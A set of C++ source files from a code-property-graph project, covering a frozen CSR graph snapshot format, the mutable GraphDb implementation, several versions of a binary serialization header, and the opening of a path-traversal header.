// the read-optimized counterpart of the mutable GraphDb (docs/GRAPH.md).
// The mutable store stays the build-time representation; the traversal hot
// path (finder shards, cypher evaluation, Traverser) reads this instead:
//
//   - adjacency is two CSR layouts (out/in): one offset array per direction
//     plus three parallel flat arrays (neighbor, dense edge index, interned
//     edge-type id), so expansion is a contiguous scan with no per-edge
//     Edge deref and no string compare;
//   - per-node adjacency entries are sorted by (type id, edge index), so a
//     typed expansion is one binary search into the node's segment while
//     within-type order still matches GraphDb's insertion-order iteration
//     (the invariant that keeps finder output byte-identical);
//   - node/edge properties live in columnar side arrays keyed by property
//     name: typed columns (bool/int/real bitmap+array, string pool, int-list
//     pool) with a presence bitmap, falling back to a serialized-value blob
//     for heterogeneous keys.
//
// The whole graph serializes as one versioned, checksummed, mmap-able frame
// (same magic/version/length/trailing-checksum discipline as the graph
// store v2): freeze() *is* the serializer — it builds the frame bytes and
// attaches views into them, so save() is a plain write and a warm start
// maps the file and re-attaches zero-copy. Validation is fail-closed: a
// truncated, bit-flipped or version-skewed frame is a structured error,
// never UB — callers fall back to the store decode.
//
// Memory governance: an owned or mapped frame charges its byte size to the
// optional MemoryBudget for its lifetime (eviction = destruction = unmap).
#pragma once

#include <cstdint>
#include <filesystem>
#include <memory>
#include <optional>
#include <span>
#include <string_view>
#include <vector>

#include "graph/graph.hpp"
#include "util/memory_budget.hpp"
#include "util/result.hpp"

namespace tabby::graph {

// Frame layout constants (little-endian; see docs/GRAPH.md for the full
// byte-level tables):
//   magic        u32  = 0x5A524654 ("TFRZ" on disk)
//   version      u16  = 1
//   reserved     u16  = 0
//   frame length u64  total bytes including the trailing checksum
//   content key  u64  binds a cache-published frame to its snapshot key
//                     (0 = unbound standalone frame)
//   node count   u64
//   edge count   u64
//   section cnt  u64  = 16 (stats-less) or 17 (with the cardinality stats)
//   directory    cnt x { id u32, reserved u32, offset u64, length u64 }
//   sections     each 8-byte aligned (ids 1..cnt, see kSec* below)
//   checksum     u64  FNV-1a64 over every byte before it
// The optional section 17 carries the graph's CardinalityStats for the
// cypher planner (same payload codec as the store v2 stats block). The
// version stays 1: frames written before the planner existed declare 16
// sections and still attach — the planner falls back to defaults.
inline constexpr std::uint32_t kFrozenMagic = 0x5A524654;
inline constexpr std::uint16_t kFrozenVersion = 1;
inline constexpr std::size_t kFrozenHeaderSize = 48;
inline constexpr std::size_t kFrozenSectionCount = 16;
inline constexpr std::size_t kFrozenSectionCountWithStats = 17;
inline constexpr std::size_t kFrozenDirEntrySize = 24;
inline constexpr std::size_t kFrozenChecksumSize = 8;

// Section ids, in file order.
inline constexpr std::uint32_t kSecNodeLabels = 1;    // string table
inline constexpr std::uint32_t kSecEdgeTypes = 2;     // string table
inline constexpr std::uint32_t kSecNodeLabelIds = 3;  // u16[N]
inline constexpr std::uint32_t kSecOutOffsets = 4;    // u64[N+1]
inline constexpr std::uint32_t kSecOutNbr = 5;        // u32[M]
inline constexpr std::uint32_t kSecOutEdge = 6;       // u32[M]
inline constexpr std::uint32_t kSecOutType = 7;       // u16[M]
inline constexpr std::uint32_t kSecInOffsets = 8;     // u64[N+1]
inline constexpr std::uint32_t kSecInNbr = 9;         // u32[M]
inline constexpr std::uint32_t kSecInEdge = 10;       // u32[M]
inline constexpr std::uint32_t kSecInType = 11;       // u16[M]
inline constexpr std::uint32_t kSecEdgeFrom = 12;     // u32[M]
inline constexpr std::uint32_t kSecEdgeTo = 13;       // u32[M]
inline constexpr std::uint32_t kSecEdgeType = 14;     // u16[M]
inline constexpr std::uint32_t kSecNodeProps = 15;    // column blocks
inline constexpr std::uint32_t kSecEdgeProps = 16;    // column blocks
inline constexpr std::uint32_t kSecStats = 17;        // u64 len + stats payload (optional)

/// Column value encodings inside the property sections. A column is typed
/// when every present value holds the same scalar alternative; anything else
/// (mixed alternatives, string lists, explicit nulls) falls back to Mixed —
/// per-element serialized values in the graph-store wire encoding.
enum class FrozenColumnKind : std::uint8_t {
  Bool = 0,
  Int = 1,
  Real = 2,
  Str = 3,
  IntList = 4,
  Mixed = 5,
};

/// One property column: presence bitmap + kind-specific value arrays, all
/// spans into the frozen frame (zero-copy). Accessors are unchecked beyond
/// the presence bit — indices come from the validated graph.
class FrozenColumn {
 public:
  FrozenColumnKind kind() const { return kind_; }

  bool has(std::uint64_t i) const {
    return ((presence_[i >> 6] >> (i & 63)) & 1) != 0;
  }
  /// False for absent entries and non-Bool columns (matches prop_bool).
  bool get_bool(std::uint64_t i) const {
    if (kind_ != FrozenColumnKind::Bool) return mixed_bool(i);
    return has(i) && ((words_[i >> 6] >> (i & 63)) & 1) != 0;
  }
  std::int64_t get_int(std::uint64_t i, std::int64_t fallback = 0) const {
    if (kind_ != FrozenColumnKind::Int) return mixed_int(i, fallback);
    if (!has(i)) return fallback;
    return ints_[i];
  }
  double get_real(std::uint64_t i, double fallback = 0.0) const {
    if (kind_ != FrozenColumnKind::Real || !has(i)) return fallback;
    double d;
    std::uint64_t bits = words_[i];
    __builtin_memcpy(&d, &bits, sizeof d);
    return d;
  }
  /// Empty for absent entries and non-string values (matches prop_string).
  /// A string inside a Mixed column reads as a view into its serialized
  /// cell — the wire encoding stores the chars verbatim, so no allocation.
  std::string_view get_string(std::uint64_t i) const {
    if (kind_ != FrozenColumnKind::Str) return mixed_string(i);
    if (!has(i)) return {};
    return std::string_view(chars_.data() + offsets_[i], offsets_[i + 1] - offsets_[i]);
  }
  /// Empty for absent entries and non-IntList columns.
  std::span<const std::int64_t> get_intlist(std::uint64_t i) const {
    if (kind_ != FrozenColumnKind::IntList || !has(i)) return {};
    return ints_.subspan(offsets_[i], offsets_[i + 1] - offsets_[i]);
  }
  /// Materializes the value whatever the column kind (decodes Mixed cells);
  /// nullopt when absent.
  std::optional<Value> get_value(std::uint64_t i) const;

 private:
  friend class FrozenGraph;

  /// Slow paths for the scalar reads over a Mixed column (a bool/int/string
  /// stored next to heterogeneous siblings still reads as GraphDb::prop_bool
  /// / prop_int / prop_string would). Each returns its fallback for any
  /// other column kind.
  bool mixed_bool(std::uint64_t i) const;
  std::int64_t mixed_int(std::uint64_t i, std::int64_t fallback) const;
  std::string_view mixed_string(std::uint64_t i) const;

  FrozenColumnKind kind_ = FrozenColumnKind::Mixed;
  std::span<const std::uint64_t> presence_;  // ceil(n/64) words
  std::span<const std::uint64_t> words_;     // Bool value bits / Real f64 bits
  std::span<const std::int64_t> ints_;       // Int values / IntList pool
  std::span<const std::uint64_t> offsets_;   // Str/IntList/Mixed: n+1 entries
  std::span<const char> chars_;              // Str blob
  std::span<const std::byte> blob_;          // Mixed serialized-value blob
};

/// One direction of a node's adjacency (or a typed slice of it): three
/// parallel spans into the CSR arrays. Entries are sorted by (type, edge),
/// so within one type the order equals GraphDb's insertion order.
struct AdjacencyView {
  std::span<const std::uint32_t> nbr;   // dense neighbor node ids
  std::span<const std::uint32_t> edge;  // dense edge indexes
  std::span<const std::uint16_t> type;  // interned edge-type ids

  std::size_t size() const { return nbr.size(); }
  bool empty() const { return nbr.empty(); }
};

class FrozenGraph {
 public:
  FrozenGraph() = default;
  FrozenGraph(const FrozenGraph&) = delete;
  FrozenGraph& operator=(const FrozenGraph&) = delete;
  FrozenGraph(FrozenGraph&&) = default;
  FrozenGraph& operator=(FrozenGraph&&) = default;

  // --- Construction ---------------------------------------------------------

  /// Freezes a GraphDb: live nodes/edges are renumbered densely in ascending
  /// id order (the graph-store emission order, so a freeze of a deserialized
  /// store equals a freeze of the original). Builds the serialized frame and
  /// attaches views to it — freeze() output always round-trips save()/load().
  /// `content_key` binds the frame to a cache snapshot key (0 = unbound).
  /// `with_stats` controls the optional cardinality-stats section (off
  /// reproduces the pre-planner 16-section frame byte-exactly).
  /// Fails when the graph exceeds the dense u32/u16 id spaces, or at the
  /// `graph.freeze` failpoint.
  static util::Result<FrozenGraph> freeze(const GraphDb& db, std::uint64_t content_key = 0,
                                          util::MemoryBudget* memory = nullptr,
                                          bool with_stats = true);

  /// Validates and attaches a frame, copying the bytes into owned storage.
  static util::Result<FrozenGraph> from_bytes(std::span<const std::byte> frame,
                                              util::MemoryBudget* memory = nullptr);

  /// Validates and attaches a frame the caller hands over (no copy).
  static util::Result<FrozenGraph> adopt(std::vector<std::byte> frame,
                                         util::MemoryBudget* memory = nullptr);

  /// Maps `path` read-only and attaches the frame at `frame_offset` (which
  /// must be 8-byte aligned). Falls back to a plain read when mmap is
  /// unavailable. Mapped bytes are charged to `memory` until destruction.
  static util::Result<FrozenGraph> map_file(const std::filesystem::path& path,
                                            std::size_t frame_offset = 0,
                                            util::MemoryBudget* memory = nullptr);

  /// Writes the frame verbatim (the exact bytes map_file/from_bytes accept).
  util::Status save(const std::filesystem::path& path) const;

  // --- Frame ---------------------------------------------------------------

  std::span<const std::byte> frame() const { return frame_; }
  std::uint64_t content_key() const { return content_key_; }
  /// True when the frame is backed by a file mapping rather than heap bytes.
  bool mapped() const { return mapping_ != nullptr; }

  // --- Topology ------------------------------------------------------------

  std::size_t node_count() const { return node_count_; }
  std::size_t edge_count() const { return edge_count_; }
  /// Dense ids: capacity == count (no tombstones in a frozen graph).
  std::size_t node_capacity() const { return node_count_; }
  std::size_t edge_capacity() const { return edge_count_; }

  std::string_view label(NodeId n) const { return label_name(node_label_ids_[n]); }
  std::uint16_t node_label_id(NodeId n) const { return node_label_ids_[n]; }
  std::string_view label_name(std::uint16_t id) const { return table_entry(label_table_, id); }
  std::size_t label_count() const { return label_table_.count; }
  /// Interned id for a label string; nullopt when no node carries it.
  std::optional<std::uint16_t> label_id(std::string_view label) const;

  std::string_view edge_type_name(std::uint16_t id) const { return table_entry(type_table_, id); }
  std::size_t edge_type_count() const { return type_table_.count; }
  std::optional<std::uint16_t> edge_type_id(std::string_view type) const;

  NodeId edge_from(EdgeId e) const { return edge_from_[e]; }
  NodeId edge_to(EdgeId e) const { return edge_to_[e]; }
  std::uint16_t edge_type(EdgeId e) const { return edge_type_[e]; }

  AdjacencyView out_edges_view(NodeId n) const {
    return slice(out_nbr_, out_edge_, out_type_, out_offsets_[n], out_offsets_[n + 1]);
  }
  AdjacencyView in_edges_view(NodeId n) const {
    return slice(in_nbr_, in_edge_, in_type_, in_offsets_[n], in_offsets_[n + 1]);
  }
  /// The (contiguous) slice of a node's adjacency with one edge type: a
  /// binary search over the type-sorted segment. Within the slice, entries
  /// ascend by edge index — GraphDb's filtered iteration order.
  AdjacencyView out_edges_typed_view(NodeId n, std::uint16_t type) const {
    return typed_slice(out_nbr_, out_edge_, out_type_, out_offsets_[n], out_offsets_[n + 1], type);
  }
  AdjacencyView in_edges_typed_view(NodeId n, std::uint16_t type) const {
    return typed_slice(in_nbr_, in_edge_, in_type_, in_offsets_[n], in_offsets_[n + 1], type);
  }

  /// Visits out/in edges in global insertion order (ascending edge index)
  /// regardless of type — what untyped cypher patterns iterate. Single-type
  /// adjacencies pass through directly; mixed ones gather and sort.
  template <typename Fn>  // fn(edge u32, neighbor u32)
  void for_each_out_ordered(NodeId n, Fn&& fn) const {
    each_ordered(out_edges_view(n), std::forward<Fn>(fn));
  }
  template <typename Fn>
  void for_each_in_ordered(NodeId n, Fn&& fn) const {
    each_ordered(in_edges_view(n), std::forward<Fn>(fn));
  }

  // --- Properties ----------------------------------------------------------

  /// Column handles; nullptr when no element carries the key.
  const FrozenColumn* node_column(std::string_view key) const;
  const FrozenColumn* edge_column(std::string_view key) const;

  /// GraphDb-equivalent property reads (materialize a Value; nullopt when
  /// absent). Cold-path conveniences — hot paths hold the column handle.
  std::optional<Value> node_prop(NodeId n, std::string_view key) const;
  std::optional<Value> edge_prop(EdgeId e, std::string_view key) const;
  std::string_view node_prop_string(NodeId n, std::string_view key) const;
  bool node_prop_bool(NodeId n, std::string_view key) const;
  std::int64_t node_prop_int(NodeId n, std::string_view key, std::int64_t fallback = 0) const;

  // --- Scans (cypher candidate enumeration) --------------------------------

  /// Ascending dense ids — the order GraphDb's by_label/index buckets hold
  /// after a deserialize + create_standard_indexes round trip.
  std::vector<NodeId> nodes_with_label(std::string_view label) const;
  /// Equality scan matching GraphDb::find_nodes semantics (value_equals).
  std::vector<NodeId> find_nodes(std::string_view label, std::string_view key,
                                 const Value& value) const;

  // --- Planner statistics ---------------------------------------------------

  /// Cardinality stats decoded from the optional section 17; nullopt for
  /// frames written before the planner existed (the planner then plans
  /// against fallback defaults).
  const std::optional<CardinalityStats>& stats() const { return stats_; }

 private:
  struct StringTable {
    std::uint64_t count = 0;
    std::span<const std::uint64_t> offsets;  // count + 1
    std::span<const char> chars;
  };

  std::string_view table_entry(const StringTable& t, std::uint16_t id) const {
    return std::string_view(t.chars.data() + t.offsets[id], t.offsets[id + 1] - t.offsets[id]);
  }

  static AdjacencyView slice(std::span<const std::uint32_t> nbr,
                             std::span<const std::uint32_t> edge,
                             std::span<const std::uint16_t> type, std::uint64_t b,
                             std::uint64_t e) {
    return {nbr.subspan(b, e - b), edge.subspan(b, e - b), type.subspan(b, e - b)};
  }
  static AdjacencyView typed_slice(std::span<const std::uint32_t> nbr,
                                   std::span<const std::uint32_t> edge,
                                   std::span<const std::uint16_t> type, std::uint64_t b,
                                   std::uint64_t e, std::uint16_t t);

  template <typename Fn>
  void each_ordered(AdjacencyView a, Fn&& fn) const {
    if (a.empty()) return;
    if (a.type.front() == a.type.back()) {
      // One type run: edge indexes already ascend (insertion order).
      for (std::size_t i = 0; i < a.size(); ++i) fn(a.edge[i], a.nbr[i]);
      return;
    }
    std::vector<std::uint32_t> order(a.size());
    for (std::size_t i = 0; i < order.size(); ++i) order[i] = static_cast<std::uint32_t>(i);
    std::sort(order.begin(), order.end(),
              [&a](std::uint32_t x, std::uint32_t y) { return a.edge[x] < a.edge[y]; });
    for (std::uint32_t i : order) fn(a.edge[i], a.nbr[i]);
  }

  /// Validates `frame` and wires every span; `storage`/`mapping` carry
  /// ownership (exactly one is set; both empty for borrowed test frames).
  static util::Result<FrozenGraph> attach(std::span<const std::byte> frame,
                                          std::vector<std::byte> storage,
                                          std::shared_ptr<void> mapping,
                                          util::MemoryBudget* memory);

  // Ownership: exactly one of owned_ / mapping_ backs frame_.
  std::vector<std::byte> owned_;
  std::shared_ptr<void> mapping_;  // munmaps (or frees) on release
  util::ScopedCharge charge_;
  std::span<const std::byte> frame_;

  std::uint64_t content_key_ = 0;
  std::size_t node_count_ = 0;
  std::size_t edge_count_ = 0;

  StringTable label_table_;
  StringTable type_table_;
  std::span<const std::uint16_t> node_label_ids_;
  std::span<const std::uint64_t> out_offsets_;
  std::span<const std::uint32_t> out_nbr_;
  std::span<const std::uint32_t> out_edge_;
  std::span<const std::uint16_t> out_type_;
  std::span<const std::uint64_t> in_offsets_;
  std::span<const std::uint32_t> in_nbr_;
  std::span<const std::uint32_t> in_edge_;
  std::span<const std::uint16_t> in_type_;
  std::span<const std::uint32_t> edge_from_;
  std::span<const std::uint32_t> edge_to_;
  std::span<const std::uint16_t> edge_type_;

  // Sorted by key (string_views into the frame).
  std::vector<std::pair<std::string_view, FrozenColumn>> node_columns_;
  std::vector<std::pair<std::string_view, FrozenColumn>> edge_columns_;

  std::optional<CardinalityStats> stats_;
};

}  // namespace tabby::graph
