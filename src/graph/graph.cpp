#include "graph/graph.hpp"

#include <algorithm>
#include <stdexcept>

#include "util/failpoint.hpp"
#include "util/thread_pool.hpp"

namespace tabby::graph {

void GraphDb::reserve(std::size_t nodes, std::size_t edges) {
  nodes_.reserve(nodes);
  out_.reserve(nodes);
  in_.reserve(nodes);
  edges_.reserve(edges);
}

NodeId GraphDb::add_node(std::string label, PropertyMap props) {
  NodeId id = nodes_.size();
  Node n;
  n.id = id;
  n.label = std::move(label);
  n.props = std::move(props);
  nodes_.push_back(std::move(n));
  out_.emplace_back();
  in_.emplace_back();
  by_label_[nodes_.back().label].push_back(id);
  ++live_nodes_;
  index_insert(nodes_.back());
  return id;
}

EdgeId GraphDb::add_edge(NodeId from, NodeId to, std::string type, PropertyMap props) {
  if (!node_alive(from) || !node_alive(to)) {
    throw std::out_of_range("add_edge: endpoint does not exist");
  }
  EdgeId id = edges_.size();
  Edge e;
  e.id = id;
  e.from = from;
  e.to = to;
  e.type = std::move(type);
  e.props = std::move(props);
  edges_.push_back(std::move(e));
  out_[from].push_back(id);
  in_[to].push_back(id);
  ++live_edges_;
  ++type_counts_[edges_.back().type];
  return id;
}

void GraphDb::set_node_prop(NodeId id, const std::string& key, Value value) {
  if (!node_alive(id)) throw std::out_of_range("set_node_prop: no such node");
  Node& n = nodes_[id];
  index_erase_key(n, key);
  n.props[key] = std::move(value);
  // Re-insert just this key into its index, if one exists.
  auto it = indexes_.find(index_name(n.label, key));
  if (it != indexes_.end()) {
    std::string vk = index_key(n.props[key]);
    if (!vk.empty()) it->second[vk].push_back(id);
  }
}

void GraphDb::set_edge_prop(EdgeId id, const std::string& key, Value value) {
  if (!edge_alive(id)) throw std::out_of_range("set_edge_prop: no such edge");
  edges_[id].props[key] = std::move(value);
}

void GraphDb::remove_edge(EdgeId id) {
  if (!edge_alive(id)) return;
  Edge& e = edges_[id];
  e.alive = false;
  auto unlink = [id](std::vector<EdgeId>& v) {
    v.erase(std::remove(v.begin(), v.end(), id), v.end());
  };
  unlink(out_[e.from]);
  unlink(in_[e.to]);
  --live_edges_;
  auto tally = type_counts_.find(e.type);
  if (tally != type_counts_.end() && tally->second > 0) --tally->second;
}

void GraphDb::remove_node(NodeId id) {
  if (!node_alive(id)) return;
  // Copy: remove_edge mutates the adjacency lists we are iterating.
  std::vector<EdgeId> incident = out_[id];
  incident.insert(incident.end(), in_[id].begin(), in_[id].end());
  for (EdgeId e : incident) remove_edge(e);
  Node& n = nodes_[id];
  for (const auto& [key, value] : n.props) index_erase_key(n, key);
  auto& bucket = by_label_[n.label];
  bucket.erase(std::remove(bucket.begin(), bucket.end(), id), bucket.end());
  n.alive = false;
  --live_nodes_;
}

const Node& GraphDb::node(NodeId id) const {
  if (!node_alive(id)) throw std::out_of_range("node: no such node");
  return nodes_[id];
}

const Edge& GraphDb::edge(EdgeId id) const {
  if (!edge_alive(id)) throw std::out_of_range("edge: no such edge");
  return edges_[id];
}

const std::vector<EdgeId>& GraphDb::out_edges(NodeId id) const {
  if (!node_alive(id)) throw std::out_of_range("out_edges: no such node");
  return out_[id];
}

const std::vector<EdgeId>& GraphDb::in_edges(NodeId id) const {
  if (!node_alive(id)) throw std::out_of_range("in_edges: no such node");
  return in_[id];
}

std::vector<EdgeId> GraphDb::out_edges_typed(NodeId id, std::string_view type) const {
  std::vector<EdgeId> result;
  for (EdgeId e : out_edges(id)) {
    if (edges_[e].type == type) result.push_back(e);
  }
  return result;
}

std::vector<EdgeId> GraphDb::in_edges_typed(NodeId id, std::string_view type) const {
  std::vector<EdgeId> result;
  for (EdgeId e : in_edges(id)) {
    if (edges_[e].type == type) result.push_back(e);
  }
  return result;
}

std::optional<EdgeId> GraphDb::find_edge(NodeId from, NodeId to, std::string_view type) const {
  for (EdgeId e : out_edges(from)) {
    if (edges_[e].to == to && edges_[e].type == type) return e;
  }
  return std::nullopt;
}

std::vector<NodeId> GraphDb::nodes_with_label(std::string_view label) const {
  auto it = by_label_.find(std::string(label));
  if (it == by_label_.end()) return {};
  return it->second;
}

void GraphDb::for_each_node(const std::function<void(const Node&)>& fn) const {
  for (const Node& n : nodes_) {
    if (n.alive) fn(n);
  }
}

void GraphDb::for_each_edge(const std::function<void(const Edge&)>& fn) const {
  for (const Edge& e : edges_) {
    if (e.alive) fn(e);
  }
}

void GraphDb::create_index(const std::string& label, const std::string& key) {
  std::string name = index_name(label, key);
  if (indexes_.count(name) != 0) return;
  auto& index = indexes_[name];
  backfill_index(label, key, index);
}

void GraphDb::backfill_index(const std::string& label, const std::string& key,
                             std::unordered_map<std::string, std::vector<NodeId>>& index) const {
  auto bucket = by_label_.find(label);
  if (bucket == by_label_.end()) return;
  // Worst case every node maps to a distinct key (NAME/SIGNATURE indexes do);
  // reserving up front avoids the rehash ladder during bulk loads.
  index.reserve(bucket->second.size());
  for (NodeId id : bucket->second) {
    const Value* v = nodes_[id].prop(key);
    if (v == nullptr) continue;
    std::string vk = index_key(*v);
    if (vk.empty()) continue;
    index.try_emplace(std::move(vk)).first->second.push_back(id);
  }
}

bool GraphDb::has_index(const std::string& label, const std::string& key) const {
  return indexes_.count(index_name(label, key)) != 0;
}

void GraphDb::create_indexes(const std::vector<std::pair<std::string, std::string>>& specs,
                             util::Executor* executor) {
  // The `graph.index.rebuild` failpoint models a back-fill fault (a bad
  // allocation mid-rebuild, an inconsistent store). The throw is the real
  // failure mode: callers reach this via the pipeline facade, whose
  // catch-all turns stray exceptions into structured errors.
  if (util::failpoint::poll("graph.index.rebuild")) {
    throw std::runtime_error("failpoint: injected index rebuild failure");
  }
  // Back-fill each index into a local map first (pure reads of the node
  // store), then install serially in spec order. Skips already-existing
  // indexes like create_index() does.
  std::vector<std::unordered_map<std::string, std::vector<NodeId>>> built(specs.size());
  std::vector<bool> fresh(specs.size(), false);
  for (std::size_t i = 0; i < specs.size(); ++i) {
    fresh[i] = indexes_.count(index_name(specs[i].first, specs[i].second)) == 0;
  }
  util::run_indexed(executor, specs.size(), [&](std::size_t i) {
    if (!fresh[i]) return;
    backfill_index(specs[i].first, specs[i].second, built[i]);
  });
  for (std::size_t i = 0; i < specs.size(); ++i) {
    if (fresh[i]) indexes_.emplace(index_name(specs[i].first, specs[i].second), std::move(built[i]));
  }
}

std::vector<NodeId> GraphDb::find_nodes(const std::string& label, const std::string& key,
                                        const Value& value) const {
  auto it = indexes_.find(index_name(label, key));
  if (it != indexes_.end()) {
    std::string vk = index_key(value);
    auto hit = it->second.find(vk);
    if (hit == it->second.end()) return {};
    // Filter tombstones lazily (removed nodes may linger in the bucket).
    std::vector<NodeId> result;
    for (NodeId id : hit->second) {
      if (node_alive(id) && value_equals(*nodes_[id].prop(key), value)) result.push_back(id);
    }
    return result;
  }
  // Fallback: label scan.
  std::vector<NodeId> result;
  for (NodeId id : nodes_with_label(label)) {
    if (!node_alive(id)) continue;
    const Value* v = nodes_[id].prop(key);
    if (v != nullptr && value_equals(*v, value)) result.push_back(id);
  }
  return result;
}

GraphStats GraphDb::stats() const {
  GraphStats s;
  s.node_count = live_nodes_;
  s.edge_count = live_edges_;
  for (const Node& n : nodes_) {
    if (n.alive) ++s.nodes_by_label[n.label];
  }
  for (const Edge& e : edges_) {
    if (e.alive) ++s.edges_by_type[e.type];
  }
  return s;
}

std::uint64_t CardinalityStats::label_count(std::string_view label) const {
  auto it = std::lower_bound(labels.begin(), labels.end(), label,
                             [](const auto& entry, std::string_view l) { return entry.first < l; });
  return it != labels.end() && it->first == label ? it->second : 0;
}

std::uint64_t CardinalityStats::type_count(std::string_view type) const {
  auto it =
      std::lower_bound(edge_types.begin(), edge_types.end(), type,
                       [](const auto& entry, std::string_view t) { return entry.first < t; });
  return it != edge_types.end() && it->first == type ? it->second : 0;
}

CardinalityStats GraphDb::cardinality() const {
  CardinalityStats s;
  s.nodes = live_nodes_;
  s.edges = live_edges_;
  s.labels.reserve(by_label_.size());
  for (const auto& [label, bucket] : by_label_) {
    // remove_node erases ids from their bucket, so the size is the exact
    // live count; labels whose nodes were all removed drop out entirely.
    if (!bucket.empty()) s.labels.emplace_back(label, bucket.size());
  }
  s.edge_types.reserve(type_counts_.size());
  for (const auto& [type, count] : type_counts_) {
    if (count > 0) s.edge_types.emplace_back(type, count);
  }
  std::sort(s.labels.begin(), s.labels.end());
  std::sort(s.edge_types.begin(), s.edge_types.end());
  return s;
}

void GraphDb::index_insert(const Node& n) {
  for (const auto& [key, value] : n.props) {
    auto it = indexes_.find(index_name(n.label, key));
    if (it == indexes_.end()) continue;
    std::string vk = index_key(value);
    if (!vk.empty()) it->second[vk].push_back(n.id);
  }
}

void GraphDb::index_erase_key(const Node& n, const std::string& key) {
  auto it = indexes_.find(index_name(n.label, key));
  if (it == indexes_.end()) return;
  const Value* v = n.prop(key);
  if (v == nullptr) return;
  auto bucket = it->second.find(index_key(*v));
  if (bucket == it->second.end()) return;
  auto& ids = bucket->second;
  ids.erase(std::remove(ids.begin(), ids.end(), n.id), ids.end());
}

}  // namespace tabby::graph
