// Binary persistence for GraphDb snapshots — the stand-in for Neo4j's store
// files. Lets a CPG built once be re-queried across runs (the paper's
// "researchers can re-use the graph database query syntax").
#pragma once

#include <filesystem>
#include <span>
#include <vector>

#include "graph/graph.hpp"
#include "util/bytes.hpp"
#include "util/result.hpp"

namespace tabby::graph {

// Store layout (little-endian, version 2 — the checksummed format):
//   magic    u32  = 0x54474442 ("TGDB")
//   version  u16  = 2
//   length   u64  payload size in bytes
//   payload       node and edge records (see serialize.cpp)
//   checksum u64  FNV-1a64 over every byte before it (header + payload)
// deserialize() validates magic, version, declared length and checksum
// before touching the payload, so truncated, corrupted or pre-versioning
// stores fail closed with a diagnostic instead of undefined behavior.
inline constexpr std::uint32_t kGraphStoreMagic = 0x54474442;
inline constexpr std::uint16_t kGraphStoreVersion = 2;

std::vector<std::byte> serialize(const GraphDb& db);
util::Result<GraphDb> deserialize(std::span<const std::byte> data);

// Single-value wire encoding (tag byte + payload), shared with the frozen
// snapshot's Mixed property columns so one codec covers every Value
// alternative on disk. Tags: 0 null, 1 bool, 2 int (svarint), 3 double
// (uvarint of the bit pattern), 4 string, 5 int list, 6 string list.
void write_value(util::ByteWriter& out, const Value& v);
util::Result<Value> read_value(util::ByteReader& in);

util::Status save(const GraphDb& db, const std::filesystem::path& path);
util::Result<GraphDb> load(const std::filesystem::path& path);

}  // namespace tabby::graph
