// Binary persistence for GraphDb snapshots — the stand-in for Neo4j's store
// files. Lets a CPG built once be re-queried across runs (the paper's
// "researchers can re-use the graph database query syntax").
#pragma once

#include <filesystem>
#include <span>
#include <vector>

#include "graph/graph.hpp"
#include "util/result.hpp"

namespace tabby::graph {

std::vector<std::byte> serialize(const GraphDb& db);
util::Result<GraphDb> deserialize(std::span<const std::byte> data);

util::Status save(const GraphDb& db, const std::filesystem::path& path);
util::Result<GraphDb> load(const std::filesystem::path& path);

}  // namespace tabby::graph
