// Binary persistence for GraphDb snapshots — the stand-in for Neo4j's store
// files. Lets a CPG built once be re-queried across runs (the paper's
// "researchers can re-use the graph database query syntax").
#pragma once

#include <filesystem>
#include <span>
#include <vector>

#include "graph/graph.hpp"
#include "util/result.hpp"

namespace tabby::graph {

// Store layout (little-endian, version 2 — the checksummed format):
//   magic    u32  = 0x54474442 ("TGDB")
//   version  u16  = 2
//   length   u64  payload size in bytes
//   payload       node and edge records (see serialize.cpp)
//   checksum u64  FNV-1a64 over every byte before it (header + payload)
// deserialize() validates magic, version, declared length and checksum
// before touching the payload, so truncated, corrupted or pre-versioning
// stores fail closed with a diagnostic instead of undefined behavior.
inline constexpr std::uint32_t kGraphStoreMagic = 0x54474442;
inline constexpr std::uint16_t kGraphStoreVersion = 2;

std::vector<std::byte> serialize(const GraphDb& db);
util::Result<GraphDb> deserialize(std::span<const std::byte> data);

util::Status save(const GraphDb& db, const std::filesystem::path& path);
util::Result<GraphDb> load(const std::filesystem::path& path);

}  // namespace tabby::graph
