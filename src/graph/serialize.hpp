// Binary persistence for GraphDb snapshots — the stand-in for Neo4j's store
// files. Lets a CPG built once be re-queried across runs (the paper's
// "researchers can re-use the graph database query syntax").
#pragma once

#include <filesystem>
#include <span>
#include <vector>

#include "graph/graph.hpp"
#include "util/bytes.hpp"
#include "util/result.hpp"

namespace tabby::graph {

// Store layout (little-endian, version 2 — the checksummed format):
//   magic    u32  = 0x54474442 ("TGDB")
//   version  u16  = 2
//   length   u64  payload size in bytes
//   payload       node and edge records (see serialize.cpp)
//   [stats]       optional cardinality-stats block (see below)
//   checksum u64  FNV-1a64 over every byte before it (header + payload +
//                 optional stats block)
// The optional stats block sits between payload and checksum:
//   magic    u32  = 0x54535453 ("TSTS")
//   length   u64  stats payload size in bytes
//   payload       CardinalityStats (see docs/GRAPH.md "Cardinality stats")
// deserialize() validates magic, version, declared length and checksum
// before touching the payload, so truncated, corrupted or pre-versioning
// stores fail closed with a diagnostic instead of undefined behavior.
// Stats-less stores (anything serialized before the planner existed, or
// with with_stats=false) still load; a present block must parse exactly and
// agree with the decoded graph or the whole store is rejected.
inline constexpr std::uint32_t kGraphStoreMagic = 0x54474442;
inline constexpr std::uint16_t kGraphStoreVersion = 2;
inline constexpr std::uint32_t kGraphStoreStatsMagic = 0x54535453;

std::vector<std::byte> serialize(const GraphDb& db, bool with_stats = true);
util::Result<GraphDb> deserialize(std::span<const std::byte> data);

// Cardinality-stats payload codec, shared between the store v2 tail block
// and the frozen frame's stats section (one wire format, two carriers).
void encode_stats(util::ByteWriter& out, const CardinalityStats& stats);
util::Result<CardinalityStats> decode_stats(util::ByteReader& in);

// Single-value wire encoding (tag byte + payload), shared with the frozen
// snapshot's Mixed property columns so one codec covers every Value
// alternative on disk. Tags: 0 null, 1 bool, 2 int (svarint), 3 double
// (uvarint of the bit pattern), 4 string, 5 int list, 6 string list.
void write_value(util::ByteWriter& out, const Value& v);
util::Result<Value> read_value(util::ByteReader& in);

util::Status save(const GraphDb& db, const std::filesystem::path& path);
util::Result<GraphDb> load(const std::filesystem::path& path);

}  // namespace tabby::graph
