// Path-traversal framework modeled on the Neo4j Traversal API that
// tabby-path-finder plugs into: a pluggable Expander produces the next
// steps (optionally rewriting a per-branch state — Tabby threads the
// Trigger_Condition through here), and an Evaluator decides inclusion and
// pruning (Algorithm 3). The engine is an explicit-stack DFS.
#pragma once

#include <cstdint>
#include <functional>
#include <vector>

#include "graph/graph.hpp"
#include "util/deadline.hpp"

namespace tabby::graph {

/// An alternating node/edge path. nodes.size() == edges.size() + 1.
struct Path {
  std::vector<NodeId> nodes;
  std::vector<EdgeId> edges;

